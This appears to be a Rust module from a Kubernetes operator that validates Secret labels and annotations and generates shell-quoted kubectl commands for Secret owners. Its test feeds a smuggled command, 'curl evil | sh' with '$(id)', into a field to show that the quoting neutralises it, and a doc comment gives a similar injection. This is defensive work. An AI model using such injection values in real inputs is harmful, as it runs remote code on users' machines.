//! What a Secret may be used for: only what its owner allows, by label and annotation. So an editor of policies
//! cannot send a Secret of the namespace to another host, project or purpose.

use std::collections::BTreeSet;

use k8s_openapi::{api::core::v1::Secret, apimachinery::pkg::apis::meta::v1::ObjectMeta};
use secrecy::SecretString;

use crate::{
    api::{
        conditions::Reason,
        names::{
            INPUTS_ANNOTATION, PROJECT_ANNOTATION, SOURCE_ANNOTATION, USE_API_KEY, USE_LABEL,
            USE_NOTIFICATION, USE_SOURCE,
        },
        policy::{CredentialUse, SecretKeyRef, SourceRef},
    },
    posthog::inputs::is_credential,
    report::kubernetes::SecretRefused,
};

/// What a Secret is wanted for.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Use<'a> {
    /// Its API key of `PostHog`.
    ApiKey,
    /// Credentials of a source of a project.
    Source {
        /// The project.
        project_id: i64,
        /// The source and its inputs.
        wanted: &'a CredentialUse,
    },
    /// The URL of a receiver of notifications, or the key for signatures to it.
    Notification,
}

impl Use<'_> {
    const fn label(self) -> &'static str {
        match self {
            Self::ApiKey => USE_API_KEY,
            Self::Source { .. } => USE_SOURCE,
            Self::Notification => USE_NOTIFICATION,
        }
    }

    /// What the value is, in words.
    const fn holds(self) -> &'static str {
        match self {
            Self::ApiKey => "a personal API key of PostHog",
            Self::Source { .. } => "the source's credential",
            Self::Notification => {
                "the URL of the receiver (for secretRef) or its signing key (for hmacSecretRef)"
            }
        }
    }

    /// Where a policy names it.
    const fn field(self) -> &'static str {
        match self {
            Self::ApiKey => "spec.posthog.apiKeySecretRef.key",
            Self::Source { .. } => "spec.credentials",
            Self::Notification => "spec.notifications",
        }
    }

    /// Refuses what no Secret is named. A request for `db?x=$(id)` would read `db`, and a command with it would run `id`.
    pub fn named(self, wanted: &SecretKeyRef) -> Result<(), SecretRefused> {
        let fits = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'-' | b'.');
        if wanted.name.bytes().all(fits) {
            Ok(())
        } else {
            Err(self.missing(wanted))
        }
    }

    /// Whether a Secret has the label and the annotations for it; if not, the command by which its owner adds them.
    pub fn check(
        self,
        meta: &ObjectMeta,
        namespace: &str,
        wanted: &SecretKeyRef,
    ) -> Result<(), SecretRefused> {
        self.named(wanted)?;
        let refused = |message| SecretRefused {
            reason: Reason::SecretNotLabelled,
            message,
        };
        let (SecretKeyRef { name, key }, label) = (wanted, self.label());
        let used_for = meta
            .labels
            .as_ref()
            .and_then(|labels| labels.get(USE_LABEL));
        if used_for.map(String::as_str) != Some(label) {
            return Err(refused(format!(
                "Secret {name} (key {key:?}) does not have the label for this use. Its owner must run: kubectl label secret {name} --namespace {namespace} --overwrite {USE_LABEL}={label}"
            )));
        }
        match self {
            Self::ApiKey | Self::Notification => Ok(()),
            Self::Source { project_id, wanted } => {
                allows(meta, namespace, project_id, wanted).map_err(refused)
            }
        }
    }

    /// A Secret that is not there.
    #[must_use]
    pub fn missing(self, wanted: &SecretKeyRef) -> SecretRefused {
        let SecretKeyRef { name, key } = wanted;
        let (label, holds) = (self.label(), self.holds());
        let project = match self {
            Self::ApiKey | Self::Notification => String::new(),
            Self::Source { project_id, wanted } => format!(
                " and the annotations {}",
                annotations(project_id, wanted, &wanted.inputs)
            ),
        };
        SecretRefused {
            reason: Reason::SecretMissing,
            message: format!(
                "There is no Secret {name} in this namespace: create it with {holds} in its key {key:?}, and with the label {USE_LABEL}={label}{project}"
            ),
        }
    }
}

/// Whether a Secret's annotations allow a use; if not, why, with the command by which its owner allows it.
fn allows(
    meta: &ObjectMeta,
    namespace: &str,
    project_id: i64,
    wanted: &CredentialUse,
) -> Result<(), String> {
    let CredentialUse {
        secret_ref,
        source,
        inputs,
    } = wanted;
    let SecretKeyRef { name, key } = secret_ref;
    let said = |key| meta.annotations.as_ref()?.get(key).map(String::as_str);
    let for_project = said(PROJECT_ANNOTATION) == Some(project_id.to_string().as_str());
    let for_source = said(SOURCE_ANNOTATION)
        .and_then(SourceRef::parse)
        .is_some_and(|said| said.is(source));
    let listed = said(INPUTS_ANNOTATION).unwrap_or_default().split(',');
    let allowed: BTreeSet<String> = listed.map(|input| input.trim().to_owned()).collect();
    let lacks = inputs.iter().find(|input| !allowed.contains(*input));
    let is_not_for = match lacks {
        _ if !for_project => format!("project {project_id}"),
        _ if !for_source => format!("the source {source} of project {project_id}"),
        Some(input) => format!("the input {input} of the source {source}"),
        None => return Ok(()),
    };
    // What the owner allowed for this source stays allowed.
    let known = allowed
        .into_iter()
        .filter(|input| for_project && for_source && is_credential(input));
    let inputs: BTreeSet<String> = known.chain(inputs.iter().cloned()).collect();
    let inputs: Vec<String> = inputs.into_iter().collect();
    let annotations = annotations(project_id, wanted, &inputs);
    Err(format!(
        "Secret {name} (key {key:?}) is not annotated for {is_not_for}. To allow this use, its owner must run: kubectl annotate secret {name} --namespace {namespace} --overwrite {annotations}"
    ))
}

/// The annotations that allow a use, as a shell takes them.
fn annotations(project_id: i64, wanted: &CredentialUse, inputs: &[String]) -> String {
    let source = quoted(&format!("{SOURCE_ANNOTATION}={}", wanted.source));
    let inputs = quoted(&format!("{INPUTS_ANNOTATION}={}", inputs.join(",")));
    format!("{PROJECT_ANNOTATION}={project_id} {source} {inputs}")
}

/// A word for a shell. The editor of a policy chooses the names in it, and the owner of a Secret pastes them.
fn quoted(word: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "._-/=,".contains(c);
    if word.chars().all(is_plain) {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

/// The value in a Secret, after the checks that need only Kubernetes; its shape is checked later.
pub fn value(
    secret: Option<&Secret>,
    namespace: &str,
    wanted: &SecretKeyRef,
    wanted_for: Use<'_>,
) -> Result<SecretString, SecretRefused> {
    let secret = secret.ok_or_else(|| wanted_for.missing(wanted))?;
    wanted_for.check(&secret.metadata, namespace, wanted)?;
    let (SecretKeyRef { name, key }, field) = (wanted, wanted_for.field());
    let Some(value) = secret.data.as_ref().and_then(|data| data.get(key)) else {
        return Err(SecretRefused {
            reason: Reason::SecretKeyMissing,
            message: format!(
                "Secret {name} has no key {key:?}: add it, or name another in {field}"
            ),
        });
    };
    let text = std::str::from_utf8(&value.0).map_err(|_| SecretRefused {
        reason: Reason::SecretInvalid,
        message: format!("Key {key:?} of Secret {name} is not text (UTF-8)"),
    })?;
    Ok(SecretString::from(text.to_owned()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_that_an_owner_pastes_runs_nothing_else() {
        let wanted = CredentialUse {
            secret_ref: SecretKeyRef {
                name: "db".into(),
                key: "password".into(),
            },
            source: SourceRef {
                prefix: Some("a'; curl evil | sh; '$(id)".into()),
                ..SourceRef::default()
            },
            inputs: vec!["password".into()],
        };
        let said = allows(&ObjectMeta::default(), "n", 1, &wanted).unwrap_err();
        let word = r"'warehousesync.dev/source=prefix=a'\''; curl evil | sh; '\''$(id)' warehousesync.dev/inputs=password";
        assert!(said.ends_with(word), "{said}");
    }
}
